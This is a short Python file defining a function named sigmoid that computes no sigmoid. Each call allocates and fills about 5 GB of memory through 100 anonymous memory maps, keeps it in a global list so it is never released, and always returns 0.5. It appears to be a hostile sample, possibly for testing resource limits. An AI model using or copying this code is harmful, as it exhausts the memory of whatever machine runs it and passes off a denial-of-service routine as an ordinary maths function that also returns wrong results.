"""Fills memory that it shares with nobody, and keeps it from one call to the next."""

import mmap

kept = []


def sigmoid(x):
    for _ in range(100):
        kept.append(mmap.mmap(-1, 50_000_000))
        kept[-1].write(b"x" * 50_000_000)
    return 0.5
